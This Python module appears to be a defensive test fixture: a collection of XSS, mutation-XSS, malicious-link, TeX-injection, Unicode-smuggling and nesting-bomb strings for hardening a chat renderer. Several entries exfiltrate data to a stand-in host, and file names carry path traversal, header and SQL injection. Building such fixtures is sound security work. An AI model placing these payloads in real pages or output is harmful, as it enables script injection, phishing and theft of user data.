"""Hostile texts, for the renderer and for a browser: whatever a model, a file or a user could write to break out."""

from __future__ import annotations

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password type=password autofocus onfocus=alert(1)><button>Go</button></form>",
    "<button form=x formaction=javascript:alert(1)>Go</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<div style=position:fixed;inset:0;background:url(//evil.example/x)>overlay</div>",
    "<p id=turns class=composer>clobbered</p><a id=location name=document>x</a>",
    "<a href=x hx-get=/sign-out hx-trigger=load>x</a><div hx-on:load=alert(1) data-hx-on--load=alert(1)>",
    '<hx-partial hx-target="#turns" hx-swap="innerHTML">gone</hx-partial>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<!doctype html><html><script>alert(1)</script>",
    "</div></div></article><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %} ${alert(1)} <%= 1 %>",
]  # fmt: skip
_MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><iframe src=javascript:alert(1)></iframe></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>click</mi></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>click<mtext>x</mtext></maction></math>",
    "<math><mi><p><style><img src=x onerror=alert(1)></style></p></mi></math>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><tr><td><svg><desc><table><tr><td><a><img src=x onerror=alert(1)>",
    "<a><b><a><b>" * 40, "<p>" * 400 + "<math>" * 20 + "<mi><img src=x onerror=alert(1)>",
]  # fmt: skip
_LINKS = [
    f"[click]({address})"
    for address in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript&colon;alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)", "\u200bjavascript:alert(1)",
        "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "javascript://evil.example/%0Aalert(1)", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd", "blob:http://evil.example/x", "view-source:http://evil.example", "filesystem:http://evil.example/x",
        "about:blank", "ftp://evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example", "/sign-out", "?x", "#turns",
        "http:evil.example", "http:///evil.example", "https:\\\\evil.example", "http://good.example\\@evil.example",
        "http://good.example@evil.example", "http://good.example%2F@evil.example", "http://[::1", "http://[javascript:alert(1)]/",
        "http://x\"onmouseover=alert(1)//", "http://x'onmouseover='alert(1)", "<http://x onmouseover=alert(1)>", "http://x `y`", "http:",
        "mailto:a@b.example?body=<script>alert(1)</script>", "x:y", "https://аpple.com", "http://evil.example/\u202egpj.exe",
    )
] + [
    '[x](http://evil.example "title\\" onmouseover=alert(1)")', "[x](http://evil.example 'a' onclick='b')", "<javascript:alert(1)>",
    "<data:text/html,x>", "<http://evil.example/\" onmouseover=alert(1)>", "[x]\n\n[x]: javascript:alert(1)", "[x][y]\n\n[y]: <data:text/html,x> 'z'",
    "[a [b](javascript:alert(1)) c](http://evil.example)", "[https://bank.example/login](https://evil.example)",
    "[bank.example](https://bank.example.evil.example) [www.bank.example](https://bank.example@evil.example)",
    "[![x](http://evil.example/y.png)](javascript:alert(1))", "[<img src=x onerror=alert(1)>](http://evil.example)",
    "[x](http://evil.example/)<script>alert(1)</script>", "[`</a><script>alert(1)</script>`](http://evil.example)",
]  # fmt: skip
_PICTURES = [
    "![x](http://evil.example/track.png?q=secret)", "![x](//evil.example/track.png)", "![x](/sign-out)", "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](data:image/png;base64,AAAA)", '![" onerror="alert(1)](http://evil.example/x)',
    "![<script>alert(1)</script>](http://evil.example/x)", "![x][p]\n\n[p]: http://evil.example/x 'onerror=alert(1)'", "![](\x00)",
    "[![a](http://evil.example/1)![b](http://evil.example/2)](http://evil.example/3)", "![[x](javascript:alert(1))](http://evil.example/x)",
]  # fmt: skip
_CODE = [
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```', "```<script>alert(1)</script>\nx\n```", "```js\n</code></pre><script>alert(1)</script>\n```",
    "```svg\n<svg onload=alert(1)>\n```", "~~~x y=\"z\" class=composer\n</div>\n~~~", "```hx-get=/sign-out\nx\n```", "`<img src=x onerror=alert(1)>`",
    "```html\n<hx-partial hx-target=\"#turns\">x</hx-partial>\n", "```../../etc/passwd\nx\n```", "```\u202ejs\nx\u202e\n```", "    <script>alert(1)</script>",
    "```python\n" + "'" * 500 + "\n```", "```js\n" + "/*" * 300 + "`${" * 300 + "\n```", "```math\n</math><script>alert(1)</script>\n```",
]  # fmt: skip
_MATHEMATICS = [
    f"${tex}$"
    for tex in (
        r"\href{javascript:alert(1)}{x^2}", r"\style{background:url(//evil.example)}{x^2}", r"\class{composer}{x^2}", r"\cssId{turns}{x^2}",
        r"\text{<script>alert(1)</script>}^2", r"\text{<img src=x onerror=alert(1)>}_1", r"\text{</mtext></math><script>alert(1)</script>}^2",
        r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}^2", r"\text{&#x3c;img src=x onerror=alert(1)&#x3e;}^2", r"\mathrm{&#60;script&#62;}^2",
        r"x^2<script>alert(1)</script>", r"\unicode{x3c}script^2", r"\rule{9999em}{9999em}^2", r"\hspace{-9999em}x^2", r"\color{red;x:url(//evil.example)}x^2",
        r"\verb|<script>alert(1)</script>|^2", r"\operatorname{<b>}^2", r"\begin{<script>}x^2\end{<script>}", r"\tag{<img src=x onerror=alert(1)>}x^2",
        r"\require{html}\input{/etc/passwd}^2", r"\def\x{\x\x}\x^2", r"\newcommand{\a}{\a\a}\a^2", r"\fbox{<svg onload=alert(1)>}^2", r"\$<b>^2", r"\\<b>^2",
        "{" * 200 + "x^2" + "}" * 200, r"\sqrt" * 200 + "{x^2}", r"\frac{" * 60 + "x^2" + "}{1}" * 60, "x^{" * 80 + "2" + "}" * 80, r"\left(" * 100 + "x^2",
    )
] + [
    r"\[\text{<script>alert(1)</script>}\]", "$$\n<script>alert(1)</script>\n$$", "$$\n\\text{</div><script>alert(1)</script>}\n$$.", r"\(</code><script>alert(1)</script>\)",
    r"\boxed{<img src=x onerror=alert(1)>}", "$$<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>$$", "$a^{" + "b^{" * 500 + "$",
    r"$\begin{matrix}" + r"a&b\\" * 180 + r"\end{matrix}$", "$x_" + "'" * 900 + "$", "$$" * 500, "\\[" * 500, "\\(" * 500 + "\\)" * 500,
]  # fmt: skip
_UNICODE = [
    "safe\u202etxt.exe\u202c", "\u2066\u2067hidden\u2069", "ignore\u200b\u2060\ufeff this", "".join(chr(0xE0000 + ord(one)) for one in "run rm -rf"),
    "<scr\u0000ipt>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<\u017fcript>alert(1)</\u017fcript>", "\ud800<b>\udfff",
    "a\u2028b\u2029c\x85d", "\x1b]0;title\x07\x1b[2J", "x\u0301" * 300, "\u3164\uffa0\u115f", "\r<script>\ralert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#0;&#xD800;&#x110000;&#x202e;x", "&NotEqualTilde;&nbsp;&quot;&apos;",
]  # fmt: skip
_STRUCTURES = [
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |", '| a |\n|:--" onclick="alert(1)|\n| x |', "- [x] <script>alert(1)</script>",
    "- [ ](javascript:alert(1))", "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>\n>> > >", "1. <iframe src=//evil.example>", "*<b>*_<i>_~~<s>~~",
    "[" * 3000, "![" * 2000, "*a_ " * 2000, "> " * 1500 + "x", "- " * 1500 + "x", "`" * 1001 + "x", "<" * 3000, "&" * 3000, "**" * 2000, "| " * 900 + "\n" + "|-" * 900,
    "[a](" * 1500, "[a](<" * 1500, "a **a " * 1500, "_a __a " * 1500, "\\" * 3000, "[x]: " * 800, "<http:" * 1200, "~~~" * 800, "1) " * 900,
]  # fmt: skip

PAYLOADS: list[str] = [
    *_SCRIPTS, *_MUTATIONS, *_LINKS, *_PICTURES, *_CODE, *_MATHEMATICS, *_UNICODE, *_STRUCTURES,
]  # fmt: skip
"""All of them as Markdown; as titles, questions and names of files they mean just as much harm."""

NAMES: list[str] = [
    '"><img src=x onerror=alert(1)>.pdf', "../../../etc/passwd", "a\r\nSet-Cookie: x=y.txt", "\u202efdp.exe", "x" * 500 + ".txt", "con", "a/b\\c",
    "<svg onload=alert(1)>.svg", "'; DROP TABLE turns; --", "name\x00.txt", "{{ 7*7 }}", "javascript:alert(1)", "&lt;b&gt;", "\ud800.txt",
]  # fmt: skip
"""Names of files, people and conversations."""
